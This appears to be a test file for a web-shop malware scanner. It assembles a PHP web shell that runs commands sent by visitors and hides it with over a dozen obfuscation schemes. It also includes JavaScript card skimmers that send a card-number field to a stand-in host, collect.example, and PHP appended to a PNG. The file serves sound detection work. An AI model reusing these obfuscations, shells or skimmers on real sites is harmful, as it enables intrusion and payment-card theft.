import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import { expect, test } from 'vitest';
import { judgeFile } from './judge-file.ts';

// Everything dangerous is put together here from pieces: no file of the project holds a working shell.
const EVAL = ['ev', 'al'].join('');
const POST = ['$_PO', 'ST'].join('');
const SYSTEM = ['sys', 'tem'].join('');
const OPEN = ['<', '?php '].join('');
const B64 = ['base64', '_decode'].join('');

const judge = (name: string, text: string | Buffer) =>
  judgeFile({ path: name, bytes: typeof text === 'string' ? Buffer.from(text, 'latin1') : text, linesBefore: 0 }).findings;
const grave = (name: string, text: string | Buffer) =>
  judge(name, text).filter((finding) => finding.severity === 'critical' || finding.severity === 'high');

const b64 = (text: string) => Buffer.from(text, 'latin1').toString('base64');
const reversed = (text: string) => [...text].reverse().join('');
const rot13 = (text: string) =>
  text.replace(/[a-z]/gi, (letter) => String.fromCharCode(letter.charCodeAt(0) + (letter.toLowerCase() < 'n' ? 13 : -13)));
const quoted = (text: string) => `'${text.replace(/[\\']/g, '\\$&')}'`;
const escaped = (text: string) => `"${[...text].map((sign) => `\\x${sign.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}"`;
const octal = (text: string) => `"${[...text].map((sign) => `\\${sign.charCodeAt(0).toString(8)}`).join('')}"`;
const xored = (text: string, key: number) => [...text].map((sign) => String.fromCharCode(sign.charCodeAt(0) ^ key)).join('');

/** Ways to hide a text of PHP, as an expression that gives it back. */
const disguises: Readonly<Record<string, (text: string) => string>> = {
  base64: (text) => `${B64}(${quoted(b64(text))})`,
  'base64, five times': (text) =>
    Array.from({ length: 5 })
      .reduce<string>((inner) => b64(inner), text)
      .replace(/^/, `${B64}(${B64}(${B64}(${B64}(${B64}('`)
      .concat("')))))"),
  deflate: (text) => `gzinflate(${B64}('${deflateRawSync(text).toString('base64')}'))`,
  zlib: (text) => `gzuncompress(${B64}('${deflateSync(text).toString('base64')}'))`,
  gzip: (text) => `gzdecode(${B64}('${gzipSync(text).toString('base64')}'))`,
  rot13: (text) => `str_rot13(${quoted(rot13(text))})`,
  'rot13 of base64': (text) => `${B64}(str_rot13('${rot13(b64(text))}'))`,
  reversed: (text) => `strrev(${quoted(reversed(text))})`,
  'reversed base64': (text) => `${B64}(strrev('${reversed(b64(text))}'))`,
  hexadecimal: (text) => `hex2bin('${Buffer.from(text).toString('hex')}')`,
  packed: (text) => `pack('H*', '${Buffer.from(text).toString('hex')}')`,
  uuencoded: (text) => `convert_uudecode(${quoted(uuencode(text))})`,
  'a function of its own': (text) => `(function ($s) { return ${B64}(strrev($s)); })('${reversed(b64(text))}')`,
};

function uuencode(text: string): string {
  let out = '';
  for (let at = 0; at < text.length; at += 45) {
    const line = Buffer.from(text.slice(at, at + 45));
    out += String.fromCharCode(32 + line.length);
    for (let i = 0; i < line.length; i += 3) {
      const all = ((line[i] ?? 0) << 16) | ((line[i + 1] ?? 0) << 8) | (line[i + 2] ?? 0);
      for (const shift of [18, 12, 6, 0]) out += String.fromCharCode(32 + ((all >> shift) & 63));
    }
    out += '\n';
  }
  return out;
}

const harmful = `if (isset(${POST}["k"])) { ${SYSTEM}(${POST}["k"]); }`;
const harmless = 'The quick brown fox jumps over the lazy dog, and is fine.';

for (const [name, hide] of Object.entries(disguises)) {
  test(`code in ${name} is found and followed; a text in it is nothing`, () => {
    const found = grave('a.php', `${OPEN}${EVAL}(${hide(harmful)});`);
    expect(found.map((finding) => finding.rule)).toContain('php-runs-hidden-code');
    // What it does inside is seen too: it was unpacked.
    expect(found.map((finding) => finding.rule)).toContain('php-runs-commands-of-visitors');
    expect(judge('a.php', `${OPEN}echo ${hide(harmless)};`)).toEqual([]);
  });
}

/** Ways to hide the name of a function, as statements that put it into `$f`. */
const names: Readonly<Record<string, (name: string) => string>> = {
  'two pieces': (name) => `$f = '${name.slice(0, 3)}' . '${name.slice(3)}';`,
  'signs by number': (name) => `$f = ${[...name].map((sign) => `chr(${sign.charCodeAt(0)})`).join('.')};`,
  'signs by sum': (name) =>
    `$f = ''; foreach (array(${[...name].map((sign) => sign.charCodeAt(0) - 7).join(',')}) as $n) { $f .= chr($n + 7); }`,
  escapes: (name) => `$f = ${escaped(name)};`,
  'octal escapes': (name) => `$f = ${octal(name)};`,
  'a table of letters': (name) =>
    `$t = 'abcdefghijklmnopqrstuvwxyz_0123456789'; $f = ${[...name].map((sign) => `$t[${'abcdefghijklmnopqrstuvwxyz_0123456789'.indexOf(sign)}]`).join('.')};`,
  'a table in $GLOBALS': (name) =>
    `$GLOBALS['q'] = 'zyxwvutsrqponmlkjihgfedcba_'; $f = ${[...name].map((sign) => `$GLOBALS['q'][${'zyxwvutsrqponmlkjihgfedcba_'.indexOf(sign)}]`).join('.')};`,
  'signs in between': (name) => `$f = str_replace('#', '', '${[...name].join('#')}');`,
  'another alphabet': (name) => `$f = strtr('${rot13(name)}', 'nopqrstuvwxyzabcdefghijklm', 'abcdefghijklmnopqrstuvwxyz');`,
  'a list': (name) => `$f = implode('', array('${[...name].join("','")}'));`,
  'exclusive or': (name) => `$f = ${quoted(xored(name, 21))} ^ ${quoted('\x15'.repeat(name.length))};`,
  'a loop': (name) => `$d = ${quoted(xored(name, 5))}; $f = ''; for ($i = 0; $i < strlen($d); $i++) { $f .= chr(ord($d[$i]) ^ 5); }`,
  sprintf: (name) => `$f = sprintf('%s%s', '${name.slice(0, 4)}', '${name.slice(4)}');`,
  base64: (name) => `$f = ${B64}('${b64(name)}');`,
  jumps: (name) => `goto a; b: goto c; a: $f = strrev('${reversed(name)}'); goto b; c: $x = 1;`,
};

for (const [name, hide] of Object.entries(names)) {
  test(`a function whose name is hidden by ${name} is known; an ordinary one is nothing`, () => {
    const rules = grave('a.php', `${OPEN}${hide(SYSTEM)} $f(${POST}['x']);`).map((finding) => finding.rule);
    expect(rules).toContain('php-runs-commands-of-visitors');
    expect(grave('a.php', `${OPEN}require 'lib.php'; ${hide('ucwords')} echo $f('hello world');`)).toEqual([]);
  });
}

const hosts: Readonly<Record<string, (address: string) => string>> = {
  base64: (address) => `${['at', 'ob'].join('')}('${b64(address)}')`,
  'signs by number': (address) => `String.from${'CharCode'}(${[...address].map((sign) => sign.charCodeAt(0)).join(',')})`,
  reversed: (address) => `'${reversed(address)}'.split('').reverse().join('')`,
  'percent signs': (address) => `unescape('${[...address].map((sign) => `%${sign.charCodeAt(0).toString(16)}`).join('')}')`,
  'signs in between': (address) => `'${[...address].join('@')}'.replace(/@/g, '')`,
  'a list of numbers': (address) =>
    `[${[...address].map((sign) => sign.charCodeAt(0)).join(',')}].map(function (n) { return String.fromCharCode(n); }).join('')`,
  'a list of pieces': (address) => `['${address.slice(0, 6)}', '${address.slice(6, 12)}', '${address.slice(12)}'].join('')`,
  'a table': (address) => {
    const table = [...new Set(address)].join('');
    return `(${[...address].map((sign) => `t[${table.indexOf(sign)}]`).join('+')})`.replace(/^/, '').concat(`/*${table}*/`);
  },
};

const uses: Readonly<Record<string, (address: string, secret: string) => string>> = {
  'a script': (address) => `var s = document.createElement('script'); s.src = ${address}; document.head.appendChild(s);`,
  'a picture': (address, secret) => `new Image().src = ${address} + '?d=' + btoa(document.getElementById('${secret}').value);`,
  'a socket': (address, secret) =>
    `var w = new WebSocket(${address}); w.onopen = function () { w.send(document.getElementById('${secret}').value); };`,
};

for (const [way, hide] of Object.entries(hosts)) {
  for (const [what, use] of Object.entries(uses)) {
    test(`${what} at an address hidden by ${way} is found; to the shop itself it is nothing`, () => {
      const address = what === 'a socket' ? 'wss://collect.example/x' : 'https://collect.example/x';
      const table = way === 'a table' ? `var t = '${[...new Set(address)].join('')}'; ` : '';
      expect(judge('a.js', table + use(hide(address), 'cc_number')).map((finding) => finding.outcome)).toContain('malicious');
      const own = way === 'a table' ? `var t = '${[...new Set('/media/x.js')].join('')}'; ` : '';
      expect(judge('a.js', own + use(hide('/media/x.js'), 'search'))).toEqual([]);
    });
  }
}

test('a skimmer in a text of the database is found where it stands, in SQL and in CSV', () => {
  const script = `<script>var s=document.createElement("script");s.src=atob("${b64('https://collect.example/x.js')}");document.head.appendChild(s)</script>`;
  const sql = `INSERT INTO core_config_data VALUES\n(1,'default',0,'web/unsecure/base_url','http://shop.example/'),\n(2,'default',0,'design/head/includes','${script.replaceAll('"', '\\"')}');\n`;
  const [found] = judge('dump.sql', sql);
  expect(found).toMatchObject({ rule: 'js-hidden-address', line: 3, outcome: 'malicious' });
  expect(judge('blocks.csv', `id,content\n1,"${script.replaceAll('"', '""')}"\n`).map((finding) => finding.rule)).toContain(
    'js-hidden-address',
  );
  expect(judge('dump.sql', sql.replace(/<script>.*<\/script>/, '<script>show(\\"hello\\")</script>'))).toEqual([]);
});

test('PHP behind a real picture is found, the picture alone is nothing', () => {
  const picture = Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    Buffer.from(Array.from({ length: 4_000 }, (_, i) => (i * 7919) % 256)),
  ]);
  expect(judge('logo.png', picture)).toEqual([]);
  expect(judge('logo.png', Buffer.concat([picture, Buffer.from(`${OPEN}@${EVAL}(${POST}[1]);`)])).map((finding) => finding.rule)).toContain(
    'program-in-a-picture',
  );
});

test('an excerpt holds neither card numbers nor addresses of people', () => {
  const [found] = judge('a.php', `${OPEN}$to = 'jane.doe@mail.example.com'; $n = '4111 1111 1111 1111'; ${EVAL}(${POST}['x']);`);
  expect(found?.excerpt).toContain(EVAL);
  expect(found?.excerpt).not.toMatch(/jane\.doe|4111/);
  expect(found?.excerpt.length).toBeLessThanOrEqual(240);
});

test('broken and hostile text ends, and quickly', () => {
  const started = performance.now();
  const open = '('.repeat(20_000);
  for (const text of [
    `${OPEN}${open}`,
    `${OPEN}"${'{$'.repeat(5_000)}`,
    `${OPEN}<<<A\n`,
    `${OPEN}${'$a['.repeat(9_000)}`,
    `${OPEN}${'function f('.repeat(3_000)}`,
    `${OPEN}while(1){$a.=chr(1);}`,
  ])
    judge('a.php', text);
  for (const text of [open, '['.repeat(20_000), `var a=${'"x"+'.repeat(20_000)}"y";`, `\`${'${'.repeat(3_000)}`, '/'.repeat(50_000)])
    judge('a.js', text);
  judge('a.html', '<script'.repeat(20_000));
  judge('a.sql', `CREATE TRIGGER ${'x '.repeat(100_000)}`);
  judge('.htaccess', `<FilesMatch "${'a'.repeat(100_000)}`);
  expect(performance.now() - started).toBeLessThan(15_000);
});
